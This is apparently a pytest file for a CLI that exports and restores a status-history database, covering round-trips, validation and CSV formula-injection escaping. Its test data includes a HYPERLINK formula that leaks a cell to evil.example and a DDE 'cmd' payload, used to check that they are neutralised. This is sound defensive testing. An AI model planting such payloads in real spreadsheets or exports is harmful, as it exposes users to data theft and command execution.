"""An export restores (`backchannel import --into-empty`) into a new database, identically."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path

import pytest
from sqlite_utils import Database

import bot.cli.main
import storage
from storage.models import Actor
from tests.admin_support import rows
from tests.conftest import ADMIN_ID

EDITOR = Actor(id=ADMIN_ID, name="Редактор, Ölga")


@pytest.fixture
def cli(settings, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]):
    """Run `backchannel ...` against DATABASE_PATH (default: the test database)."""
    monkeypatch.setattr(bot.cli.main, "configure_logging", lambda *args: None)

    def invoke(*argv: str, database: Path = settings.database_path) -> tuple[int, str, str]:
        monkeypatch.setenv("DATABASE_PATH", str(database))
        code = bot.cli.main.main(list(argv))
        out, err = capsys.readouterr()
        return code, out, err

    return invoke


@pytest.fixture
def busy_history(db: Database, frozen_time) -> None:
    """Statuses, notes with commas, quotes and Unicode, a backdated status and an undone one."""
    aid, summit = storage.find_channel(db, "aid"), storage.find_channel(db, "summit")
    storage.record_status(
        db, channel_id=aid.id, kind="status", phase="negotiating", actor=EDITOR,
        summary='Конвой, "trucks" & 🚛\nsecond line', source_url="https://e.org/a?x=1,2",
        source_grade="official", source_label="ICRC, Geneva",
    )  # fmt: skip
    frozen_time.shift(3600)
    storage.add_note(db, channel_id=aid.id, summary="Примітка: route agreed", actor=EDITOR)
    summit_since = storage.channel_status(db, storage.find_channel(db, "summit")).current.changed_at
    storage.record_status(
        db, channel_id=summit.id, kind="status", phase="stalled", summary="Backdated",
        actor=EDITOR, changed_at=summit_since - timedelta(days=3),
    )  # fmt: skip
    frozen_time.shift(60)
    storage.record_status(
        db, channel_id=aid.id, kind="status", phase="collapsed", summary="Typo", actor=EDITOR
    )
    storage.undo_last_change(db, EDITOR)


@pytest.mark.parametrize("export_format", ["csv", "json"])
def test_export_restores_into_an_empty_database_identically(
    cli, db, busy_history, tmp_path: Path, export_format: str
) -> None:
    first, second = tmp_path / f"first.{export_format}", tmp_path / f"second.{export_format}"
    restored = tmp_path / "restored.db"
    assert cli("export", "--format", export_format, "--output", str(first))[0] == 0
    code, out, err = cli("import", str(first), "--into-empty", database=restored)
    assert (code, err) == (0, "")
    assert out == "Restored 10 entries in 6 channels.\n"
    assert (
        cli("export", "--format", export_format, "--output", str(second), database=restored)[0] == 0
    )
    assert second.read_bytes() == first.read_bytes()
    copy = storage.open_database(restored)
    try:
        assert _shown(copy) == _shown(db)
        assert [c.title for c in storage.list_channels(copy)] == [
            c.title for c in storage.list_channels(db)
        ]
        assert (
            storage.search_entries(copy, "route", limit=5)
            .hits[0]
            .entry.summary.startswith("Примітка")
        )
        (audit,) = rows(copy, "audit_log")
        assert audit["action"] == "restore" and audit["actor_name"].startswith("cli:")
    finally:
        copy.close()


def _shown(db: Database) -> list[tuple[str, str, str, str | None]]:
    """What readers see: each channel's current phase, summary, trend and previous phase."""
    return [
        (s.channel.slug, s.phase.slug, s.current.summary, s.previous_phase)
        for s in storage.current_statuses(db)
    ]


def test_undone_entries_are_exported_marked_and_stay_undone(cli, db, busy_history) -> None:
    exported = list(csv.DictReader(io.StringIO(cli("export")[1])))
    undone = [row for row in exported if row["reverted_at"]]
    assert [(row["summary"], row["reverted_by"]) for row in undone] == [("Typo", EDITOR.name)]
    assert storage.channel_status(db, storage.find_channel(db, "aid")).phase.slug == "negotiating"


def test_restore_refuses_a_database_with_history(cli, db, busy_history, tmp_path) -> None:
    file = tmp_path / "export.json"
    assert cli("export", "--format", "json", "--output", str(file))[0] == 0
    before = rows(db, "status_history")
    code, out, err = cli("import", str(file), "--into-empty")
    assert code == 1 and out == ""
    assert "already has 10 history entries, so nothing was restored" in err
    assert "DATABASE_PATH=restored.db backchannel import" in err
    assert rows(db, "status_history") == before


def _export(cli) -> list[dict]:
    return json.loads(cli("export", "--format", "json")[1])


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (lambda data: data[2].update(phase="bogus"), "row 3: “bogus” is not a phase"),
        (lambda data: data[4].update(changed_at="soon"), "row 5: “soon” is not a date"),
        (lambda data: data[0].pop("recorded_at"), "row 1: The recorded_at is missing."),
        (lambda data: data[1].update(colour="red"), "row 2: Unknown column “colour”."),
        (lambda data: data[0].update(kind="note"), "row 1: the first entry of “summit” must be"),
    ],
)
def test_one_bad_row_restores_nothing(cli, db, busy_history, tmp_path, change, expected) -> None:
    data = _export(cli)
    change(data)
    file, restored = tmp_path / "edited.json", tmp_path / "restored.db"
    file.write_text(json.dumps(data), encoding="utf-8")
    code, out, err = cli("import", str(file), "--into-empty", database=restored)
    assert code == 1 and out == ""
    assert err.startswith("edited.json: nothing was restored.") and expected in err
    assert storage.history_count(storage.open_database(restored)) == 0


def test_unknown_channels_are_created_titled_by_slug(cli, db, tmp_path) -> None:
    data = _export(cli)
    data[0]["channel"] = "backroom"
    file, restored = tmp_path / "renamed.json", tmp_path / "restored.db"
    file.write_text(json.dumps(data), encoding="utf-8")
    code, out, _ = cli("import", str(file), "--into-empty", database=restored)
    assert code == 0 and "titled by their slug: backroom (rename them with /renamechannel)" in out
    channel = storage.find_channel(storage.open_database(restored), "backroom")
    assert (channel.title, channel.aliases) == ("backroom", [])


def test_dry_run_restores_nothing(cli, db, tmp_path) -> None:
    file, restored = tmp_path / "export.csv", tmp_path / "restored.db"
    assert cli("export", "--output", str(file))[0] == 0
    code, out, _ = cli("import", str(file), "--into-empty", "--dry-run", database=restored)
    assert (code, out) == (0, "6 entries are valid; nothing was written (--dry-run).\n")
    assert storage.history_count(storage.open_database(restored)) == 0


def test_plain_import_of_export_rows_records_them_now(cli, db, busy_history, tmp_path) -> None:
    """Without --into-empty an export is a list of updates: recorded now, undone rows skipped."""
    data = [row for row in _export(cli) if row["channel"] == "aid"][1:]
    file = tmp_path / "aid.json"
    file.write_text(json.dumps(data), encoding="utf-8")
    before = storage.history_count(db)
    code, out, _ = cli("import", str(file))
    assert (code, out) == (0, "Imported 2 updates from aid.json.\n")
    added = storage.history(db, storage.find_channel(db, "aid").id, 2)
    assert storage.history_count(db) == before + 2
    assert [(e.summary, e.actor_name, e.actor_id) for e in added] == [
        ("Примітка: route agreed", EDITOR.name, None),
        ('Конвой, "trucks" & 🚛\nsecond line', EDITOR.name, None),
    ]
    assert added[1].source_label == "ICRC, Geneva"


FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1 more convoy",
    "-5 trucks turned back",
    "@SUM(A1:A9)",
    "\tTabbed in",
    "\rCarriage return first",
    "'=Already quoted by hand",
    "''+Two quotes",
    "'Just a quote",
    "Plain = text",
]


@pytest.fixture
def formula_history(db: Database, frozen_time) -> None:
    """Notes, a label and an actor name that a spreadsheet would take for formulas."""
    aid = storage.find_channel(db, "aid")
    sly = Actor(id=ADMIN_ID, name="=cmd|' /C calc'!A0")
    for summary in FORMULAS:
        frozen_time.shift(60)
        storage.add_note(
            db, channel_id=aid.id, summary=summary, actor=sly,
            source_url="https://e.org/a", source_label="@label",
        )  # fmt: skip


def _cells(csv_text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(csv_text, newline="")) for cell in row]


def test_csv_export_neutralises_formulas(cli, db, formula_history) -> None:
    code, out, _ = cli("export")
    assert code == 0
    cells = _cells(out)
    assert '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")' in cells
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    neutralised = {"'+1 more convoy", "'@label", "'=cmd|' /C calc'!A0", "''=Already quoted by hand"}
    assert neutralised <= set(cells)
    assert {"'Just a quote", "Plain = text"} <= set(cells)
    # JSON stays exact.
    summaries = [row["summary"] for row in _export(cli)][-len(FORMULAS) :]
    assert summaries == FORMULAS


@pytest.mark.parametrize("export_format", ["csv", "json"])
def test_formula_looking_text_round_trips_exactly(
    cli, db, formula_history, tmp_path: Path, export_format: str
) -> None:
    first, second = tmp_path / f"first.{export_format}", tmp_path / f"second.{export_format}"
    restored = tmp_path / "restored.db"
    assert cli("export", "--format", export_format, "--output", str(first))[0] == 0
    code, _, err = cli("import", str(first), "--into-empty", database=restored)
    assert (code, err) == (0, "")
    assert (
        cli("export", "--format", export_format, "--output", str(second), database=restored)[0] == 0
    )
    assert second.read_bytes() == first.read_bytes()
    copy = storage.open_database(restored)
    try:
        notes = storage.history(copy, storage.find_channel(copy, "aid").id, len(FORMULAS))
        assert [note.summary for note in reversed(notes)] == FORMULAS
        assert {(note.actor_name, note.source_label) for note in notes} == {
            ("=cmd|' /C calc'!A0", "@label")
        }
    finally:
        copy.close()


def test_plain_import_of_a_csv_export_keeps_formula_text(cli, db, formula_history, tmp_path):
    file = tmp_path / "export.csv"
    assert cli("export", "--output", str(file))[0] == 0
    code, _, err = cli("import", str(file))
    assert (code, err) == (0, ""), err
    added = storage.history(db, storage.find_channel(db, "aid").id, len(FORMULAS))
    # An ordinary import trims surrounding white space, so the tab and return go.
    assert [note.summary for note in reversed(added)] == [text.strip() for text in FORMULAS]
    assert {(note.actor_name, note.source_label) for note in added} == {
        ("=cmd|' /C calc'!A0", "@label")
    }
